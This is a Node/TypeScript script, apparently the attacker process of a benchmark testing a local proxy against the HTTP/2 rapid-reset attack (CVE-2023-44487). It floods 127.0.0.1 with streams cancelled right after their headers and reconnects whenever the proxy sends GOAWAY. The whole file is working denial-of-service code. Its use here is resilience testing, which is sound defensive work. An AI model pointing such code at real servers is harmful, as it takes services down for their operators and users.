/**
 * The attacker of the rapid-reset benchmark (CVE-2023-44487), run as its own process so that its work
 * does not slow the legitimate client being measured: `node rapid-reset-attacker.js <port> <seconds>
 * <connections> <local address>` keeps `connections` HTTP/2 sessions open to the proxy for `seconds`,
 * each opening streams and resetting them (RST_STREAM CANCEL) right after their HEADERS, as fast as it
 * can; a session the proxy ends (GOAWAY) is replaced at once. Prints `{"streams", "sessions"}` as JSON.
 */
import http2 from 'node:http2';
import net from 'node:net';
import tls from 'node:tls';

const [portText, secondsText, connectionsText, localAddress] = process.argv.slice(2);
const port = Number(portText);
const deadline = performance.now() + Number(secondsText) * 1000;
const BURST = 100;
let streams = 0;
let sessions = 0;

function attack(): void {
  if (performance.now() >= deadline) return;
  sessions++;
  const session = http2.connect(`https://127.0.0.1:${port}`, {
    createConnection: () => tls.connect({ socket: net.connect({ host: '127.0.0.1', port, localAddress }), servername: 'localhost', ALPNProtocols: ['h2'], rejectUnauthorized: false }),
  });
  let replaced = false;
  const replace = (): void => {
    if (replaced) return;
    replaced = true;
    session.destroy();
    setImmediate(attack);
  };
  session.on('error', replace);
  session.on('goaway', replace);
  session.on('close', replace);
  const burst = (): void => {
    if (replaced || performance.now() >= deadline) return;
    try {
      for (let i = 0; i < BURST; i++) {
        const stream = session.request({ ':path': '/', ':authority': 'localhost' });
        stream.on('error', () => {});
        // Once the stream has its id its HEADERS go out first; cancelled before, Node would send nothing.
        stream.once('ready', () => stream.close(http2.constants.NGHTTP2_CANCEL));
        streams++;
      }
    } catch {
      replace();
      return;
    }
    // A timer, not setImmediate: the frames of one burst are written before the next is queued.
    setTimeout(burst, 0);
  };
  session.once('connect', burst);
}

for (let i = 0; i < Number(connectionsText); i++) attack();
// Whatever state the sessions are in at the deadline, the attack is over.
setTimeout(() => {
  process.stdout.write(`${JSON.stringify({ streams, sessions })}\n`);
  process.exit(0);
}, deadline - performance.now());
